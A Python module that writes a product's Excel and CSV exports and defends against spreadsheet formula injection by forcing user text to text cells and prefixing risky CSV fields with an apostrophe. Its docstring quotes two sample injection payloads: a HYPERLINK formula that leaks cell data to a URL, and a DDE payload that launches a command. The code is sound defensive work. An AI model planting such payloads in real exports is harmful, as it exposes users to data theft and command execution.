"""The one writer of every file the product exports (Excel and CSV): user-supplied text is always text.

A name typed as `=HYPERLINK("http://…?leak="&A1,"klikk")` or `@SUM(1+1)*cmd|' /C calc'!A0` must never come
out as something a spreadsheet runs. In Excel files every string is written as a text cell (openpyxl would
otherwise make a string that starts with "=" a formula, and "#N/A" an error); numbers and dates stay numbers
and dates. In CSV files a field a spreadsheet would execute (one that starts with = + - @, a tab or a carriage
return, also after leading spaces) gets a leading apostrophe, as OWASP's CSV-injection advice says, unless
it is a plain number as municipalities write them (`-500`, `-21 %`, `-4,5`), which stays exactly as typed.

Excel files are written with openpyxl's write-only mode: rows stream to a temporary file instead of being
kept as cell objects, so a large export takes a fraction of the time and memory of a normal workbook.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from decimal import Decimal
from typing import Any, NamedTuple

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"

# Number formats. Money is whole kroner as numbers: `#,##0` is stored locale-neutrally and shows as
# `1 500 000` in Norwegian Excel (which calls the same format `# ##0`).
MONEY, DATE, ONE_DECIMAL = "#,##0", "dd.mm.yyyy", "0.0"

EXCEL_MAX_TEXT = 32_767  # the most characters an Excel cell holds
_BOLD = Font(bold=True)

# What a spreadsheet may execute when a CSV field starts with it (after any leading whitespace).
_CSV_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# A plain number as municipalities write it: a sign, digits with spaces, dots or commas, and a percent sign.
_PLAIN_NUMBER = re.compile(r"[+-]?\s*\d[\d\s.,\u00a0\u202f]*(?:\s*%)?|[+-]")
_CSV_ESCAPED = re.compile(r"^'(?=[\t\r]|\s*[=+\-@])")


class Column(NamedTuple):
    """A column of a list workbook: its header, width, number format (None for text) and how to get its
    value from an item."""

    header: str
    width: int
    number_format: str | None
    value: Callable[[Any], Any]


def cell_text(value: object) -> str:
    """Text as an Excel cell can hold it: without the control characters openpyxl refuses (a vertical tab
    pasted from Word), and at most the 32,767 characters a cell takes."""
    return ILLEGAL_CHARACTERS_RE.sub("", str(value))[:EXCEL_MAX_TEXT]


@dataclass
class Sheet:
    """One sheet of an export: a header row (bold), then rows of values.

    `number_formats` gives, by column index (0-based), the format of that column's numbers; `widths` the
    column widths; `freeze` the cell the panes are frozen at; `auto_filter` puts a filter on the header.
    """

    title: str
    header: list[str] | None
    rows: Iterable[Iterable[object]]
    widths: Iterable[int] = ()
    number_formats: dict[int, str] = field(default_factory=dict)
    freeze: str | None = "A2"
    auto_filter: bool = False


def _cell(sheet, value: object, number_format: str | None = None, *, bold: bool = False):
    if value is None or value == "":
        cell = WriteOnlyCell(sheet, value=None)
    elif isinstance(value, bool):
        cell = WriteOnlyCell(sheet, value=value)
    elif isinstance(value, int | float | Decimal):
        cell = WriteOnlyCell(sheet, value=value)
        if number_format:
            cell.number_format = number_format
    elif isinstance(value, datetime.date):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = number_format or DATE
    else:
        cell = WriteOnlyCell(sheet, value=None)
        # Set after binding: a string is text whatever it starts with, never a formula or an error code.
        cell._value = cell_text(value)
        cell.data_type = "s"
    if bold:
        cell.font = _BOLD
    return cell


def _plain(sheet, value: object, number_format: str | None):
    """The value as `append` takes it. A plain value is written through one reused cell; a WriteOnlyCell
    of its own costs openpyxl a failed conversion (an exception) per cell, so only what needs one gets it:
    a formatted number, a date, or text openpyxl would take for a formula or an error code."""
    if value is None or value == "":
        return None
    if isinstance(value, bool) or (isinstance(value, int | float | Decimal) and not number_format):
        return value
    if isinstance(value, int | float | Decimal | datetime.date):
        return _cell(sheet, value, number_format)
    text = cell_text(value)
    if text.startswith("=") or text in ERROR_CODES:
        return _cell(sheet, text)
    return text


def xlsx_bytes(sheets: Iterable[Sheet]) -> bytes:
    """The sheets as an .xlsx file."""
    workbook = Workbook(write_only=True)
    for spec in sheets:
        sheet = workbook.create_sheet(spec.title[:31])
        for index, width in enumerate(spec.widths, start=1):
            sheet.column_dimensions[get_column_letter(index)].width = width
        if spec.freeze:
            sheet.freeze_panes = spec.freeze
        columns = 0
        if spec.header is not None:
            columns = len(spec.header)
            sheet.append([_cell(sheet, value, bold=True) for value in spec.header])
        row_count = 1 if spec.header is not None else 0
        formats = spec.number_formats
        for row_index, row in enumerate(spec.rows, start=row_count):
            sheet.append([_plain(sheet, value, formats.get(index)) for index, value in enumerate(row)])
            row_count = row_index + 1
        if spec.auto_filter and columns:
            sheet.auto_filter.ref = f"A1:{get_column_letter(columns)}{max(row_count, 1)}"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def table_xlsx(*, sheet_name: str, columns: list[Column], items: Iterable[Any]) -> bytes:
    """A list as one sheet: a bold, frozen, filterable header row and one row per item."""
    return xlsx_bytes(
        [
            Sheet(
                title=sheet_name,
                header=[column.header for column in columns],
                rows=([column.value(item) for column in columns] for item in items),
                widths=[column.width for column in columns],
                number_formats={
                    index: column.number_format
                    for index, column in enumerate(columns)
                    if column.number_format
                },
                auto_filter=True,
            )
        ]
    )


def csv_field(value: object) -> str:
    """A value as a CSV field no spreadsheet executes: formula-like text gets a leading apostrophe, while
    numbers and plain numbers written as text (`-21 %`) stay as they are."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal):
        return str(value)
    if isinstance(value, datetime.date):
        return value.isoformat()
    text = str(value)
    stripped = text.lstrip()
    if text.startswith(("\t", "\r")) or (
        stripped.startswith(_CSV_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(stripped.rstrip())
    ):
        return "'" + text
    return text


def csv_unescape(text: str) -> str:
    """The inverse of `csv_field` for an importer: `'=1+1` is read back as `=1+1`, the text that was written."""
    return _CSV_ESCAPED.sub("", text, count=1)


def csv_bytes(rows: Iterable[Iterable[object]], *, delimiter: str = ";") -> bytes:
    """Semicolon-separated UTF-8 with a byte order mark, which Norwegian Excel opens as it is."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    for row in rows:
        writer.writerow([csv_field(value) for value in row])
    return buffer.getvalue().encode("utf-8-sig")
